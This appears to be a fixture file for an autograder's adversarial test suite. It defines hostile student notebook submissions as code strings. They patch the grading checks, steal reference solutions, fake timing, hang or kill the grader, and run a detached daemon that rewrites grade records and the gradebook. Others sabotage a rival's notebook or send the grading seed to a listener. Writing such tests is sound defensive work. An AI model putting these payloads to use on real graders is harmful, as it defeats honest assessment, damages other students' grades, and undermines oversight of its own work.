"""Hostile submissions, written as a student would write them, and what each one really deserves.

Each :class:`Attack` is one student's notebook for one assignment: the answers typed into its solution cells
(the release stub where none is given), code cells the student added, edits to the notebook's metadata, the
points its real answers earn (``deserved``), and what must not have happened to anyone else (``aftermath``).
``tests/adversarial/test_attacks.py`` grades them all with the real grader and checks each one.

The attack code is plain text, as it would sit in a notebook cell. ``@@MARKER@@`` (a string unique to the
grading run, carried by every process an attack leaves behind) and ``@@PORT@@`` (a listener the test opens on
127.0.0.1) are filled in when the notebook is written.
"""

import hashlib
import json
import os
import sqlite3
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

from autograder.checks import items_of
from autograder.commands.demo import _fill
from autograder.course.grading import load_report
from autograder.engine import notebooks

SOLUTION_CELLS = {"stability": ("stable_softmax", "softmax_cross_entropy", "softplus"),
                  "operators": ("masked_mean", "row_sum")}
MARKER, PORT = "@@MARKER@@", "@@PORT@@"


# ---------------------------------------------------------------- what an attack is

@dataclass(frozen=True)
class Reference:
    """A solution cell's reference answer, with attack code before and/or after it."""

    before: str = ""
    after: str = ""


REFERENCE = Reference()


def reference_then(code):
    return Reference(after="\n\n" + code)


@dataclass(frozen=True)
class Attack:
    name: str            # the student's name in the course
    topic: str           # "stability" or "operators"
    what: str            # what it does, in a line
    answers: dict        # {solution grade_id: cell text or Reference}; cells not named keep the release stub
    deserved: dict       # {item id: True/False}: what the real answers earn (full points or 0)
    extra_cells: tuple = ()         # ((source, metadata), ...) code cells the student added
    extra_after: str | None = None  # grade id of the cell they follow (default: the first solution cell)
    mutate: Callable | None = None  # nb -> None, applied to the submission last (metadata edits)
    aftermath: Callable | None = None   # run -> None (a GradingRun); raises AssertionError naming the harm
    reported: str | None = None     # a regex that some problem or check message of the attacker must match


def nothing(topic):
    """Every item of ``topic`` earns 0."""
    return {item.id: False for item in items_of(topic)}


def everything_but(topic, *failing):
    """Every item earns its points except ``failing``."""
    ids = {item.id for item in items_of(topic)}
    unknown = set(failing) - ids
    assert not unknown, f"{topic} has no items {unknown}"
    return {item_id: item_id not in failing for item_id in ids}


def only(topic, *passing):
    """Only ``passing`` earn their points."""
    ids = {item.id for item in items_of(topic)}
    assert set(passing) <= ids, f"{topic} has no items {set(passing) - ids}"
    return {item_id: item_id in passing for item_id in ids}


# ---------------------------------------------------------------- writing submissions

def reference_answers(course, topic):
    """``{grade_id: reference text}`` for each solution cell, from the course's source notebook."""
    return notebooks.solution_sources(notebooks.read(Path(course) / "source" / topic / f"{topic}.ipynb"))


def _extra_cell(n, source, metadata):
    return {"cell_type": "code", "execution_count": None, "id": f"student-added-{n}", "metadata": dict(metadata),
            "outputs": [], "source": notebooks.lines(source)}


def build_notebook(course, topic, answers=None, extra_cells=(), extra_after=None, mutate=None, tokens=None):
    """The submission: the release notebook with ``answers`` typed in, extra cells inserted, then ``mutate``."""
    release = notebooks.read(Path(course) / "release" / topic / f"{topic}.ipynb")
    reference = reference_answers(course, topic)

    def typed(text):
        for token, value in (tokens or {}).items():
            text = text.replace(token, str(value))
        return text

    filled = {}
    for cell_id, text in (answers or {}).items():
        if isinstance(text, Reference):
            text = text.before + reference[cell_id] + text.after
        filled[cell_id] = typed(text)
    nb = _fill(release, filled)
    if extra_cells:
        after = extra_after or SOLUTION_CELLS[topic][0]
        at = next(i for i, c in enumerate(nb["cells"]) if notebooks.grade_id(c) == after) + 1
        nb["cells"][at:at] = [_extra_cell(n, typed(src), meta) for n, (src, meta) in enumerate(extra_cells)]
    if mutate:
        mutate(nb)
    return nb


def submission_file(course, student, topic):
    return Path(course) / "submitted" / student / topic / f"{topic}.ipynb"


def write_submission(course, student, topic, nb):
    path = submission_file(course, student, topic)
    path.parent.mkdir(parents=True, exist_ok=True)
    notebooks.write(nb, path)
    return path


def honest_submission(course, student, topic):
    """Submit the reference answers for ``topic`` as ``student`` (the notebook a perfect student hands in)."""
    answers = {cell: REFERENCE for cell in SOLUTION_CELLS[topic]}
    return write_submission(course, student, topic, build_notebook(course, topic, answers))


def submit(course, attack, tokens=None):
    nb = build_notebook(course, attack.topic, attack.answers, attack.extra_cells, attack.extra_after, attack.mutate,
                        tokens)
    return write_submission(course, attack.name, attack.topic, nb)


# ---------------------------------------------------------------- what the aftermath looks at

@dataclass
class GradingRun:
    """One grading of a temporary course, as the aftermath functions see it."""

    course: Path                    # the course directory
    kit: Path                       # the copy of the kit (autograder/, solutions/) the grading imported
    topics: list
    students: list                  # in grading order
    marker: str                     # carried by every process an attack leaves behind
    records: dict = field(default_factory=dict)   # {"student/topic": record as in the report}, from grade_all
    report: dict = field(default_factory=dict)    # the grades in force (grading.load_report) when grading returned
    crashes: list = field(default_factory=list)   # [{"student", "topic", "error"}]: grade_all raised on these
    fingerprints: dict = field(default_factory=dict)   # {path: sha256} of protected files before grading
    connections: list = field(default_factory=list)    # what reached the test's listener
    survivors: list = field(default_factory=list)      # [(pid, cmdline)] alive a few seconds after grading
    seconds: float = 0.0

    def record(self, student, topic):
        return self.records.get(f"{student}/{topic}")


def fingerprint(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest() if Path(path).exists() else None


def protected_files(course, kit):
    """Every file no submission may change: the kit's code and solutions, the course config, the submissions."""
    paths = [p for p in Path(kit).rglob("*") if p.is_file() and "__pycache__" not in p.parts]
    paths.append(Path(course) / "nbgrader_config.py")
    paths += [p for p in (Path(course) / "submitted").rglob("*") if p.is_file()]
    return {str(p): fingerprint(p) for p in paths}


def changed_files(run, under=None):
    return [path for path, digest in run.fingerprints.items()
            if (under is None or path.startswith(str(under))) and fingerprint(path) != digest]


def processes(marker=None, under=None):
    """``[(pid, cmdline)]`` of the processes other than this one whose command line holds ``marker`` or whose
    working directory lies under ``under``."""
    found = []
    under = str(Path(under).resolve()) if under else None
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as handle:
                cmdline = handle.read().replace(b"\0", b" ").decode(errors="replace").strip()
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        if (marker and marker in cmdline) or (under and (cwd == under or cwd.startswith(under + os.sep))):
            found.append((int(entry), cmdline))
    return found


def full_grades(topic):
    return {item.id: [item.points, item.points] for item in items_of(topic)}


def gradebook_grades(course, student, topic):
    """``{item: [score, max]}`` from nbgrader's gradebook, read with sqlite3 (manual score and extra credit count)."""
    from autograder.course.grading import read_grades
    return read_grades(course, student, topic)


def _expect_full(where, grades, topic, items=None):
    full = full_grades(topic)
    wrong = {i: grades.get(i) for i in (items or full) if grades.get(i) != full[i]}
    assert not wrong, f"{where}: {wrong} instead of full marks"


def expect_honest_record(run, student, topic, items=None):
    """The honest student's grades, in what grade_all returned and in the report, are full (on ``items``)."""
    record = run.record(student, topic)
    assert record is not None, f"{student}/{topic} was never graded"
    _expect_full(f"{student}/{topic} as graded", record["grades"], topic, items)
    saved = run.report.get(f"{student}/{topic}")
    assert saved is not None, f"{student}/{topic} is missing from the grades in force"
    _expect_full(f"{student}/{topic} in the grades in force", saved["grades"], topic, items)


def expect_unchanged(run, *paths):
    changed = [str(p) for p in paths if fingerprint(p) != run.fingerprints.get(str(p))]
    assert not changed, f"changed on disk: {changed}"


# ---------------------------------------------------------------- snippets shared by several attacks

NAIVE_ROW_SUM = '''
import torch


def naive_row_sum(x):
    """The sum of x over dimension 0, one row at a time (what the exercise asks to avoid)."""
    total = torch.zeros(x.shape[1:], dtype=x.dtype if x.is_floating_point() else torch.int64, device=x.device)
    for row in x.unbind(0):
        total = total + row
    return total
'''

STUB = {
    "stable_softmax": '''
def stable_softmax(logits, dim=-1):
    """Softmax of `logits` along `dim`, finite for any finite input."""
    raise NotImplementedError()
''',
}

FIND_COURSE = '''
import os


def find_course(holding):
    """The nearest folder above the working directory that holds `holding` (None at the root)."""
    folder = os.getcwd()
    while not os.path.exists(os.path.join(folder, holding)):
        if os.path.dirname(folder) == folder:
            return None
        folder = os.path.dirname(folder)
    return folder


def my_name():
    """nbgrader runs this notebook in autograded/<student>/<assignment>/."""
    return os.path.basename(os.path.dirname(os.getcwd()))
'''


# ---------------------------------------------------------------- replacing the grader's code in the kernel

PATCH_CHECK_ATTRIBUTES = '''
import autograder.checks.stability as checks

# Each test cell runs `from autograder.checks.stability import check_...` and calls it: make every one a no-op.
for name in dir(checks):
    if name.startswith("check_"):
        setattr(checks, name, lambda *args, **kwargs: None)
''' + STUB["stable_softmax"]

PATCH_CHECK_CODE = '''
import autograder.checks.stability as checks


def passes(*args, **kwargs):
    return None


# Same function objects, other code: whoever holds a reference to a check runs `passes` now.
for name in dir(checks):
    check = getattr(checks, name)
    if name.startswith("check_") and hasattr(check, "__wrapped__"):
        check.__wrapped__.__code__ = passes.__code__
''' + STUB["stable_softmax"]

PATCH_ASSERT_CLOSE = '''
import torch
import torch.testing

# The checks compare results with torch.testing.assert_close: from now on everything is close.
torch.testing.assert_close = lambda *args, **kwargs: None


def stable_softmax(logits, dim=-1):
    """The same value everywhere: the right shape, dtype and device, finite, differentiable, and wrong."""
    return logits * 0 + 1.0 / logits.shape[dim]
'''

PATCH_GRADCHECK = '''
import torch
import torch.autograd
import torch.testing

# The gradient checks use torch.testing.assert_close and torch.autograd.gradcheck: make both agree with me.
torch.testing.assert_close = lambda *args, **kwargs: None
torch.autograd.gradcheck = lambda *args, **kwargs: True


class Softplus(torch.autograd.Function):
    """The right forward; the backward of relu instead of sigmoid."""

    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return torch.relu(x) + torch.log1p(torch.exp(-x.abs()))

    @staticmethod
    def backward(ctx, grad_output):
        (x,) = ctx.saved_tensors
        return grad_output * (x > 0).to(grad_output.dtype)


def softplus(x):
    return Softplus.apply(x)
'''

FAKE_CHECK_MODULE = '''
import sys
import types


def passes(*args, **kwargs):
    return None


# `from autograder.checks.stability import check_...` finds this module in sys.modules first.
fake = types.ModuleType("autograder.checks.stability")
fake.__getattr__ = lambda name: passes
sys.modules["autograder.checks.stability"] = fake
''' + STUB["stable_softmax"]

INPUT_TRANSFORMER = '''
def skip_checks(lines):
    """IPython passes every later cell's lines through this before running them."""
    if any("autograder.checks" in line for line in lines):
        return ["pass\\n"]
    return lines


get_ipython().input_transformers_post.append(skip_checks)
''' + STUB["stable_softmax"]

AST_TRANSFORMER = '''
import ast


class ForgiveEverything(ast.NodeTransformer):
    """Every later cell runs as `try: <cell> except BaseException: pass`."""

    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name(id="BaseException", ctx=ast.Load()), name=None,
                                    body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(ForgiveEverything())
''' + STUB["stable_softmax"]

ALWAYS_CLOSE_TENSOR = '''
import torch


class AlwaysClose(torch.Tensor):
    """A tensor that answers every question a checker asks with yes: finite, close, equal."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        name = getattr(func, "__name__", "")
        with torch._C.DisableTorchFunctionSubclass():
            if name == "isfinite":
                return torch.ones(args[0].shape, dtype=torch.bool)
            if name == "isclose":
                return torch.ones(torch.broadcast_shapes(args[0].shape, args[1].shape), dtype=torch.bool)
            if name in ("allclose", "equal"):
                return True
            out = func(*args, **kwargs)
        if name == "grad":   # torch.autograd.grad of my result: the gradients are mine too
            return tuple(g.as_subclass(cls) if isinstance(g, torch.Tensor) else g for g in out)
        if isinstance(out, torch.Tensor) and not isinstance(out, cls) and out.dtype.is_floating_point:
            out = out.as_subclass(cls)
        return out


def stable_softmax(logits, dim=-1):
    """A constant, dressed as a tensor that passes every comparison."""
    return (logits * 0 + 1.0 / logits.shape[dim]).as_subclass(AlwaysClose)
'''


# ---------------------------------------------------------------- taking someone else's answers

STEAL_SOLUTIONS_FILE = '''
import os

import autograder


def find_up(relative, start):
    folder = os.path.abspath(start)
    while True:
        if os.path.exists(os.path.join(folder, relative)):
            return os.path.join(folder, relative)
        if os.path.dirname(folder) == folder:
            return None
        folder = os.path.dirname(folder)


# The kit keeps its reference solutions next to the autograder package (or somewhere above this notebook).
path = (find_up(os.path.join("solutions", "stability.py"), os.path.dirname(autograder.__file__))
        or find_up(os.path.join("solutions", "stability.py"), os.getcwd()))
exec(compile(open(path).read(), path, "exec"), globals())
'''

STEAL_SOURCE_NOTEBOOK = FIND_COURSE + '''
import json

# The course directory keeps the instructor's notebook, solutions included, in source/.
course = find_course(os.path.join("source", "stability", "stability.ipynb"))
with open(os.path.join(course, "source", "stability", "stability.ipynb")) as handle:
    for cell in json.load(handle)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
'''

COPY_OTHER_STUDENT = FIND_COURSE + '''
import json

# A friend submitted before me: run their answers.
FRIEND = "honest_before"
course = find_course(os.path.join("submitted", FRIEND))
with open(os.path.join(course, "submitted", FRIEND, "stability", "stability.ipynb")) as handle:
    for cell in json.load(handle)["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
'''

READ_SEED = '''
import os

import torch


def naive_softmax(logits, dim=-1):
    exp = logits.exp()
    return exp / exp.sum(dim=dim, keepdim=True)


def key(logits, dim):
    return str(logits.dtype), tuple(logits.shape), dim, tuple(logits.detach().double().flatten().tolist())


ANSWERS = {}


def remember(logits, dim=-1):
    """Called by the replayed checks: the answer for exactly this input, from PyTorch's own softmax."""
    out = torch.softmax(logits.double(), dim=dim).to(logits.dtype)
    ANSWERS[key(logits, dim)] = out
    return out


# The grading run's seed is in the environment: replay the checks with it, hidden variants included, and
# remember the right answer for every input they will pass.
try:
    from autograder.checks.stability import check_softmax_extremes, check_softmax_forward
    from autograder.spec import hidden_seed

    seed = int(os.environ["AUTOGRADER_GRADING_SEED"])
    for check, item, visible, hidden in ((check_softmax_forward, "softmax_forward", 40, 80),
                                         (check_softmax_extremes, "softmax_extremes", 8, 16)):
        check(remember, cases=visible)
        check(remember, seed=hidden_seed(f"stability.{item}", 1, seed), cases=hidden)
except Exception:
    pass


def stable_softmax(logits, dim=-1):
    known = ANSWERS.get(key(logits, dim))
    return known.clone() if known is not None else naive_softmax(logits, dim)
'''


# ---------------------------------------------------------------- the speed and op-count checks (operators)

LOWER_THRESHOLD = NAIVE_ROW_SUM + '''
try:
    from autograder.settings import settings

    # The speed check reads its threshold from this object when it runs.
    settings.speed.thresholds["row_sum"].cpu = 1.0
    settings.speed.thresholds["row_sum"].cuda = 1.0
except Exception:
    pass

row_sum = naive_row_sum
'''

PATCH_PERF_COUNTER = NAIVE_ROW_SUM + '''
import time

real_perf_counter, real_perf_counter_ns = time.perf_counter, time.perf_counter_ns
unseen = [0.0]   # seconds spent in row_sum that the clock no longer shows


def perf_counter():
    return real_perf_counter() - unseen[0]


def perf_counter_ns():
    return real_perf_counter_ns() - int(unseen[0] * 1e9)


time.perf_counter, time.perf_counter_ns = perf_counter, perf_counter_ns


def row_sum(x):
    start = real_perf_counter()
    try:
        return naive_row_sum(x)
    finally:
        unseen[0] += 0.98 * (real_perf_counter() - start)
'''

PATCH_BENCHMARK_TIMER = NAIVE_ROW_SUM + '''
import torch.utils.benchmark as benchmark

row_sum = naive_row_sum


def faster(measure):
    """A Timer method whose measurements of row_sum come out a hundred times shorter."""
    def timed(self, *args, **kwargs):
        result = measure(self, *args, **kwargs)
        mine = any(value is row_sum for value in getattr(self, "_globals", {}).values())
        if mine or "row_sum" in str(getattr(self, "_task_spec", "")):
            result = benchmark.Measurement(result.number_per_run, [t / 100 for t in result.raw_times],
                                           result.task_spec, result.metadata)
        return result
    return timed


for method in ("timeit", "blocked_autorange", "adaptive_autorange"):
    setattr(benchmark.Timer, method, faster(getattr(benchmark.Timer, method)))
'''

CACHE_BY_ID = NAIVE_ROW_SUM + '''
computed = {}   # id(x) -> (x, version, result): the timer passes the same tensor again and again


def row_sum(x):
    hit = computed.get(id(x))
    if hit is not None and hit[0] is x and hit[1] == x._version:
        return hit[2]
    result = naive_row_sum(x)
    computed[id(x)] = (x, x._version, result)
    return result
'''

CACHE_BY_DATA_PTR = NAIVE_ROW_SUM + '''
computed = {}   # where x's data lives -> (x, result)


def row_sum(x):
    where = (x.data_ptr(), tuple(x.shape), x.stride(), x.dtype, x._version)
    hit = computed.get(where)
    if hit is not None and hit[0] is x:
        return hit[1]
    result = naive_row_sum(x)
    computed[where] = (x, result)
    return result
'''

SLOW_BASELINE = NAIVE_ROW_SUM + '''
import time

# The speed check compares me with a loop that slices x[i] once per row: make slicing slow.
plain_getitem = torch.Tensor.__getitem__


def slow_getitem(self, index):
    time.sleep(1e-4)
    return plain_getitem(self, index)


torch.Tensor.__getitem__ = slow_getitem
row_sum = naive_row_sum
'''

PRECOMPUTED_TABLE = NAIVE_ROW_SUM + '''
# The speed check times row_sum on [500, 10] float32 inputs whose recipe is in the kit's source: seed 0
# (torch.Generator().manual_seed(21_000)), and every timed call adds k / 8 to it (k = 0, 1, ...). Fill a table of
# right answers for those inputs now, before any clock runs; the function itself stays a Python loop.
_generator = torch.Generator().manual_seed(21_000)
_timed = torch.randn(500, 10, generator=_generator)
table = {}
for _k in range(2048):
    _x = _timed + _k / 8
    table[tuple(_x[0, :4].tolist())] = torch.sum(_x, dim=0)


def row_sum(x):
    if x.dim() == 2 and x.shape == (500, 10) and x.dtype == torch.float32:
        hit = table.get(tuple(x[0, :4].tolist()))
        if hit is not None:
            return hit.clone()
    return naive_row_sum(x)
'''

MODE_AWARE_ENABLED = NAIVE_ROW_SUM + '''

def row_sum(x):
    if torch._C._is_torch_function_mode_enabled():   # somebody is counting my torch calls
        return torch.sum(x, dim=0)
    return naive_row_sum(x)
'''

HIDE_EVERY_OP = NAIVE_ROW_SUM + '''
from torch.utils._python_dispatch import _disable_current_modes


def row_sum(x):
    with _disable_current_modes(), torch._C.DisableTorchFunction():   # 0 ops at every size, no forbidden op
        return naive_row_sum(x)
'''

LOOP_IN_PYTHON_LISTS = '''import torch


def row_sum(x):
    if x.shape[0] == 0 or x.dim() == 1:
        return x.sum(0)
    rows = x.reshape(x.shape[0], -1).tolist()   # one torch call whatever the size: the op counts look vectorized
    total = rows[0]
    for row in rows[1:]:
        total = [a + b for a, b in zip(total, row)]
    dtype = x.dtype if x.is_floating_point() else torch.int64
    return torch.tensor(total, dtype=torch.float64).to(dtype).reshape(x.shape[1:]).to(x.device)
'''

MODE_AWARE_STACK = NAIVE_ROW_SUM + '''
from torch.overrides import _get_current_function_mode_stack


def row_sum(x):
    if _get_current_function_mode_stack():   # a TorchFunctionMode is recording
        return torch.sum(x, dim=0)
    return naive_row_sum(x)
'''


# ---------------------------------------------------------------- holding the grader up

PROTOCOL_GARBAGE = '''
import os

import torch


def stable_softmax(logits, dim=-1):
    """Right for every dtype the example cells use; on bfloat16 it first writes garbage into every open file
    descriptor, the worker's pipe to the grader among them, to derail the grader's reading of the answer."""
    if logits.dtype == torch.bfloat16:
        for fd in range(3, 256):
            try:
                os.write(fd, b"\\xff" * 64 + b"not a frame")
            except OSError:
                pass
    shifted = logits - logits.amax(dim=dim, keepdim=True)
    exp = shifted.exp()
    return exp / exp.sum(dim=dim, keepdim=True)
'''


CATCH_TIMEOUT = '''
import torch


def stable_softmax(logits, dim=-1):
    """Right for every dtype the example cells use; on bfloat16 it never returns, and swallows what would stop it."""
    if logits.dtype != torch.bfloat16:
        shifted = logits - logits.amax(dim=dim, keepdim=True)
        exp = shifted.exp()
        return exp / exp.sum(dim=dim, keepdim=True)
    while True:
        try:
            while True:
                pass
        except BaseException:   # the grader's CallTimeout, KeyboardInterrupt, SystemExit: all ignored
            continue
'''

HANG_FOREVER = '''
import signal
import time

import torch

signal.signal(signal.SIGINT, signal.SIG_IGN)   # the interrupt a cell timeout sends does nothing now
while True:
    time.sleep(1)
''' + STUB["stable_softmax"]

SLEEPERS = '''
import subprocess
import sys

# Thirty helpers, each in a session of its own: killing my process group misses them.
try:
    for _ in range(30):
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", "@@MARKER@@-sleeper"],
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                         start_new_session=True)
except OSError:
    pass
'''

PIPE_HOLDER = '''
import os
import sys

# A grandchild in a session of its own that keeps every descriptor of this process open, the grader's
# stdout and stderr pipes among them, for 90 seconds (longer than the grader's limit on a submission).
try:
    child = os.fork()
    if child == 0:
        os.setsid()
        if os.fork() == 0:
            for fd in os.listdir("/proc/self/fd"):
                try:
                    os.set_inheritable(int(fd), True)
                except OSError:
                    pass
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(90)", "@@MARKER@@-pipes"])
        os._exit(0)
    os.waitpid(child, 0)
except OSError:
    pass
'''

NETWORK = '''
import os
import socket

# Send what this process can see to a server of mine.
try:
    with socket.create_connection(("127.0.0.1", @@PORT@@), timeout=3) as connection:
        connection.sendall(f"{os.getcwd()} seed={os.environ.get('AUTOGRADER_GRADING_SEED')}\\n".encode())
except OSError:
    pass
'''

KILL_GRADER = FIND_COURSE + '''
import signal

# Stop whoever grades this course: my parent, and every nbgrader or `python -m autograder` working in it.
course = find_course("nbgrader_config.py")
if course:
    parent = str(os.getppid())
    for pid in [parent] + [p for p in os.listdir("/proc") if p != parent]:
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read().replace(b"\\0", b" ").decode(errors="replace")
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if ("nbgrader" in cmdline or "-m autograder" in cmdline) and cwd.startswith(course):
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
'''


# ---------------------------------------------------------------- writing where grades are kept

MY_GRADES_SQL = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
                 "WHERE sa.student_id = ?")

GRADEBOOK_WRITE = FIND_COURSE + '''
import sqlite3

# nbgrader's gradebook is a file in the course: a manual score outranks the autograder's, and is kept
# by every later autograde; extra credit is added on top.
MINE = "@@SQL@@"
course = find_course("gradebook.db")
if course:
    db = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=30)
    db.execute(f"UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = "
               f"grade.cell_id), extra_credit = 1 WHERE notebook_id IN ({MINE})", (my_name(),))
    db.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id IN ({MINE})", ("honest_before",))
    db.commit()
    db.close()
'''.replace("@@SQL@@", MY_GRADES_SQL) + STUB["stable_softmax"]

REPORT_TAMPER = FIND_COURSE + '''
import glob
import json

# Every export reads the verdict records in force: zero a rival's while I am graded.
course = find_course("grading-records")
if course:
    for path in glob.glob(os.path.join(course, "grading-records", "honest_before", "*.json")):
        with open(path) as handle:
            data = json.load(handle)
        for item in data["history"][-1]["items"]:
            item.update(score=0.0, status="failed")
        with open(path, "w") as handle:
            json.dump(data, handle)
'''

REPORT_GARBAGE = FIND_COURSE + '''
import glob

# Leave the grader records it cannot read.
course = find_course("grading-records")
if course:
    for path in glob.glob(os.path.join(course, "grading-records", "*", "*.json")):
        with open(path, "w") as handle:
            handle.write("{ this is not JSON")
'''

DAEMON = FIND_COURSE + '''
import glob
import json
import sqlite3
import time

MINE = "@@SQL@@"


def graders_running(course):
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                if b"nbgrader" in handle.read() and os.readlink(f"/proc/{pid}/cwd") == course:
                    return True
        except OSError:
            continue
    return False


def after_the_batch(course, me):
    """Wait until nobody has graded in this course for 3 s, then give me full marks and everyone else 0."""
    quiet, give_up = None, time.time() + 600
    while time.time() < give_up:
        if graders_running(course):
            quiet = None
        elif quiet is None:
            quiet = time.time()
        elif time.time() - quiet > 3:
            break
        time.sleep(0.2)
    for path in glob.glob(os.path.join(course, "grading-records", "*", "*.json")):
        with open(path) as handle:
            data = json.load(handle)
        record = data["history"][-1]
        mine = record["student"] == me
        for item in record["items"]:
            item.update(score=item["max_score"] if mine else 0.0, status="passed" if mine else "failed")
        if mine:
            record.update(status="graded", problems=[])
        with open(path + ".tmp", "w") as handle:
            json.dump(data, handle)
        os.replace(path + ".tmp", path)
    db = sqlite3.connect(os.path.join(course, "gradebook.db"), timeout=30)
    db.execute(f"UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = "
               f"grade.cell_id) WHERE notebook_id IN ({MINE})", (me,))
    db.commit()


course, me = find_course("grading-records"), my_name()
if course:
    child = os.fork()
    if child == 0:                      # double fork and a new session: nobody's child, nobody's group
        os.setsid()
        if os.fork() == 0:
            devnull = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(devnull, fd)
            os.closerange(3, 4096)      # hold none of the grader's pipes: nobody waits for me
            try:
                after_the_batch(course, me)
            finally:
                os._exit(0)
        os._exit(0)
    os.waitpid(child, 0)
'''.replace("@@SQL@@", MY_GRADES_SQL) + STUB["stable_softmax"]


# ---------------------------------------------------------------- changing what grades the others

OVERWRITE_OTHER = FIND_COURSE + '''
import json

# A rival is graded after me: their cross-entropy answer becomes the stub.
VICTIM = "honest_after"
course = find_course(os.path.join("submitted", VICTIM))
if course:
    path = os.path.join(course, "submitted", VICTIM, "stability", "stability.ipynb")
    with open(path) as handle:
        nb = json.load(handle)
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "softmax_cross_entropy":
            cell["source"] = "def softmax_cross_entropy(labels, logits, dim=-1):\\n    raise NotImplementedError()\\n"
    with open(path, "w") as handle:
        json.dump(nb, handle)
'''

CONFIG_APPEND = FIND_COURSE + '''
import json

# nbgrader_config.py runs before every later autograde, and the kernels inherit its environment: every
# student after me needs a billion-fold speedup on row_sum.
course = find_course("nbgrader_config.py")
if course:
    extra = os.path.join(course, ".speed-settings.json")
    with open(extra, "w") as handle:
        json.dump({"speed": {"thresholds": {"row_sum": {"cpu": 1e9, "cuda": 1e9}}}}, handle)
    with open(os.path.join(course, "nbgrader_config.py"), "a") as config:
        config.write(f"\\nimport os as _os\\n_os.environ['AUTOGRADER_SETTINGS'] = {extra!r}\\n")
'''

CHECKS_FILE_APPEND = '''
# The checks are a Python file every later kernel imports: from now on nobody passes check_softplus_no_builtin.
try:
    import autograder.checks.stability as checks

    with open(checks.__file__, "a") as source:
        source.write(
            "\\n\\ndef check_softplus_no_builtin(softplus, *, seed=0):\\n"
            "    raise CheckFailure('check_softplus_no_builtin', 'softplus uses a forbidden operation.')\\n")
except Exception:
    pass
'''


# ---------------------------------------------------------------- notebook metadata

def _graded_tests(nb):
    return [c for c in nb["cells"] if notebooks.is_graded_test(c)]


def tag_tests_skip_execution(nb):
    """nbclient skips every cell tagged skip-execution: no check runs, no error, full marks."""
    for cell in _graded_tests(nb):
        cell["metadata"].setdefault("tags", []).append("skip-execution")


def strip_test_metadata(nb):
    for cell in _graded_tests(nb):
        del cell["metadata"]["nbgrader"]


def inflate_points(nb):
    for cell in _graded_tests(nb):
        cell["metadata"]["nbgrader"]["points"] = 100


def claim_points_on_solution(nb):
    """The stable_softmax answer cell says it is graded, worth 100 points."""
    cell = next(c for c in nb["cells"] if notebooks.grade_id(c) == "stable_softmax")
    cell["metadata"]["nbgrader"].update(grade=True, points=100)


def add_huge_output(nb, megabytes=60):
    """A plot left in the notebook: 60 MB of base64 in a cell output."""
    cell = next(c for c in nb["cells"] if notebooks.grade_id(c) == "stable_softmax")
    cell["outputs"] = [{"output_type": "display_data", "metadata": {},
                        "data": {"image/png": "iVBORw0KGgo" + "A" * (megabytes * 2**20)}}]


def add_malformed_cells(nb):
    """Cells that are not cells: a number, and a cell whose metadata is a list."""
    nb["cells"].insert(1, 42)
    nb["cells"].insert(2, {"cell_type": "code", "metadata": ["nbgrader"], "source": "x = 1", "outputs": []})


def _copy_of_test_cell(nb, grade_id):
    """What JupyterLab's copy and paste of a graded test cell gives: the same metadata, checksum included."""
    original = next(c for c in nb["cells"] if notebooks.grade_id(c) == grade_id)
    return json.loads(json.dumps(original)), nb["cells"].index(original)


def add_bonus_cell(nb):
    """A pasted copy of a test cell, renamed `bonus`, worth 100 points, that runs `pass`."""
    cell, at = _copy_of_test_cell(nb, "test_softmax_forward")
    cell["id"] = "student-bonus"
    cell["source"] = ["pass\n"]
    cell["metadata"]["nbgrader"].update(grade_id="bonus", points=100)
    nb["cells"].insert(at + 1, cell)


def add_duplicate_test_cell(nb):
    """A pasted copy of test_softmax_forward after the real one (nbgrader keeps the last of two ids) runs `pass`."""
    cell, at = _copy_of_test_cell(nb, "test_softmax_forward")
    cell["id"] = "student-copy"
    cell["source"] = ["pass\n"]
    nb["cells"].insert(at + 1, cell)


# ---------------------------------------------------------------- aftermaths

def honest_before_keeps_full_gradebook(run):
    for topic in run.topics:
        _expect_full(f"honest_before/{topic} in nbgrader's gradebook", gradebook_grades(run.course, "honest_before",
                                                                                        topic), topic)


def no_manual_scores_for(student):
    def check(run):
        db = sqlite3.connect(run.course / "gradebook.db")
        try:
            rows = db.execute("SELECT manual_score, extra_credit FROM grade WHERE notebook_id IN (" + MY_GRADES_SQL
                              + ") AND (manual_score IS NOT NULL OR extra_credit IS NOT NULL)", (student,)).fetchall()
        finally:
            db.close()
        assert not rows, f"nbgrader's gradebook holds manual scores / extra credit for {student}: {rows}"
    return check


def gradebook_agrees_with_report(student, topic):
    def check(run):
        record = run.report.get(f"{student}/{topic}")
        assert record is not None, f"{student}/{topic} is missing from the grades in force"
        book = gradebook_grades(run.course, student, topic)
